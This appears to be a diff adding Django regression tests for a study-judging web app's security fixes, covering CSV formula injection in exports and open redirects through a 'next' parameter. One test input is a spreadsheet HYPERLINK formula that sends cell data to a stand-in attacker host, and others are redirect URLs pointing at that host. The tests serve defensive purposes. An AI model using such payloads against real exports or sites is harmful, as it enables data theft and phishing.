@@ -1,0 +1,101 @@
+"""The hostile review's findings (issue 13), each replayed over HTTP as it was found.
+
+Every test here failed on the code before the fix it names; the judges and researchers
+are Django test clients, so cookies, redirects and status codes are the real ones.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import pytest
+from django.test import Client
+from django.urls import reverse
+
+from tests.factories import TEST_MODELS
+from tests.webapp.test_judge_flow import answer_all, finish_closing, walk_to_items
+
+
+@pytest.fixture(autouse=True)
+def _test_models(monkeypatch):
+    monkeypatch.setattr("studies.registry.registry_models", lambda: dict(TEST_MODELS))
+    monkeypatch.setattr("studies.services.studies._models_or_none", lambda: dict(TEST_MODELS))
+
+
+@pytest.fixture
+def alice(django_user_model):
+    return django_user_model.objects.create_user("alice", password="pw-alice-123")
+
+
+@pytest.fixture
+def bob(django_user_model):
+    return django_user_model.objects.create_user("bob", password="pw-bob-123")
+
+
+@pytest.fixture
+def client_a(alice):
+    client = Client()
+    client.force_login(alice)
+    return client
+
+
+def _own(study, user):
+    study.owner = user
+    study.save(update_fields=["owner"])
+    return study
+
+
+def _complete(client: Client, study, **closing):
+    response = walk_to_items(client, study.slug)
+    response, _ = answer_all(client, study.slug, study.protocol, response)
+    return finish_closing(client, study.slug, **closing)
+
+
+# --- 7: CSV formula injection -------------------------------------------------------------
+
+
+def test_closing_comment_formula_is_escaped_in_judges_csv(make_live_study, alice, client_a):
+    study = _own(make_live_study(), alice)
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    _complete(Client(), study, comments=formula)
+    _complete(Client(), study, comments="+1 great", seen_before="no")
+    body = client_a.get(
+        reverse("dashboard:export-file", args=[study.slug, "judges.csv"])
+    ).content.decode()
+    comments = [row["closing_comments"] for row in csv.DictReader(io.StringIO(body))]
+    assert sorted(comments) == sorted(["'" + formula, "'+1 great"])
+    # Numbers stay numbers: no cell of a numeric column gained a quote.
+    responses = client_a.get(
+        reverse("dashboard:export-file", args=[study.slug, "responses.csv"])
+    ).content.decode()
+    assert all(not row["rating"].startswith("'") for row in csv.DictReader(io.StringIO(responses)))
+
+
+# --- 9: open redirect ---------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "target",
+    [
+        "https://evil.example/phish",
+        "//evil.example/x",
+        "/\\evil.example",
+        "/accounts/logout/",
+        "/dashboard/other-study/review/",
+    ],
+)
+def test_exclusion_form_never_redirects_off_the_study(make_study, alice, client_a, target):
+    study = _own(make_study(), alice)
+    review = reverse("dashboard:review", args=[study.slug])
+    for data in ({"next": target}, {"next": target, "article": "x", "reason": "too short"}):
+        response = client_a.post(reverse("dashboard:exclude", args=[study.slug]), data)
+        assert response.status_code == 302
+        assert response["Location"] == review
+
+
+def test_exclusion_form_keeps_a_dashboard_next(make_study, alice, client_a):
+    study = _own(make_study(), alice)
+    target = f"/dashboard/{study.slug}/review/?page=2&show=all"
+    response = client_a.post(reverse("dashboard:exclude", args=[study.slug]), {"next": target})
+    assert response["Location"] == target
